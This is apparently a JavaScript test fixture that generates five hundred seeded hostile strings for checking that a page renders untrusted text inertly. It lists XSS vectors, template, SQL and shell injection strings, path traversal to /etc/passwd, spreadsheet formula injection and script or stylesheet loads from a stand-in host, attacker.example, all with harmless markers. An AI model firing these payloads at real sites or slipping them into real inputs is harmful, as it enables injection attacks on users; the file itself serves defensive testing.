/**
 * Hostile texts, the same five hundred at every run: each would set `window.skylarkRan`, load something from elsewhere,
 * leave the page or spoil what stands beside it, if anything took it for more than text.
 */

const run = 'window.skylarkRan=1';
const away = '//attacker.example';

const seeds = [
  // Tags that run at once.
  `<script>${run}</script>`,
  `<script src=${away}/a.js></script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<img src=${away}/a.png>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<iframe srcdoc="<script>parent.skylarkRan=1</script>">`,
  `<iframe src=javascript:${run}>`,
  `<object data="data:text/html,<script>parent.skylarkRan=1</script>">`,
  `<embed src=javascript:${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@import "${away}/a.css";</style>`,
  `<style>*{display:none!important}</style>`,
  `<link rel=stylesheet href=${away}/a.css>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href=${away}>`,
  `<form action=${away}><button>x`,
  `<a href="javascript:${run}">x</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  // Out of what stands around it.
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `";${run};//`,
  `';${run};//`,
  `\`;${run};//`,
  `\\";${run};//`,
  `</td></tr></table><script>${run}</script>`,
  // Templates.
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{{7*7}}`,
  `$&$\`$'$1`,
  '%s%n%x',
  // Addresses.
  `javascript:${run}`,
  ` javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `${away}/`,
  `https:${away}/?q=1`,
  // Already escaped, twice escaped, escaped otherwise.
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&amp;lt;script&amp;gt;${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}`,
  `\\x3cimg src=x onerror=${run}\\x3e`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  // Objects, paths, formulas, shells, queries.
  'constructor',
  'prototype.toString',
  '{"$gt":""}',
  '../../../../etc/passwd',
  `=HYPERLINK("https:${away}","x")`,
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "' or 1=1 --",
  '"; drop table call; --',
  '$(touch /tmp/x)',
  // Signs that turn, hide, pile up or pass for others.
  '\u202egnp.exe\u202c 反转',
  '\u2067<b>עברית\u2069',
  'مرحبا <script>العالم',
  'a\u200b\u200c\u200d\u2060b',
  '\u2028\u2029x',
  '\ufeff<script>',
  'Z\u0335\u0321\u0322\u034f\u0353\u0347\u0316a\u0335\u0353\u0347\u0316l\u0335go',
  '\ud83d\ude00\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc7f',
  'ﷺ꧅𒐫𒈙',
  'раура1 (Cyrillic)',
  '１３９００００１２３４',
  '名'.repeat(70),
  'W'.repeat(300),
  `${'<b>'.repeat(60)}x`,
  'a '.repeat(200),
];

/** A small generator with a seed of its own (mulberry32). */
function dice(seed) {
  let state = seed;
  return (sides) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % sides;
  };
}

const changes = [
  (text) => text,
  (text, roll) => text.replaceAll(/[a-z]/g, (letter) => (roll(2) === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll('<', '<\u00a0'),
  (text) => text.replaceAll('=', ' = '),
  (text) => text.replaceAll(' ', '/'),
  (text) => `${text}${text}`,
  (text) => `"'>${text}`,
  (text) => `张三${text}李四`,
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll('>', ''),
  (text) => `\u202e${text}`,
  (text, roll) => `${text.slice(0, 1 + roll(text.length))}<!--`,
];

/** `count` different ones, the plain seeds first. */
export function payloads(count = 500, seed = 20_261_125) {
  const roll = dice(seed);
  const all = new Set(seeds);
  while (all.size < count) {
    const text = seeds[roll(seeds.length)];
    const change = changes[roll(changes.length)];
    all.add(change(roll(3) === 0 ? changes[roll(changes.length)](text, roll) : text, roll));
  }
  return [...all].slice(0, count);
}
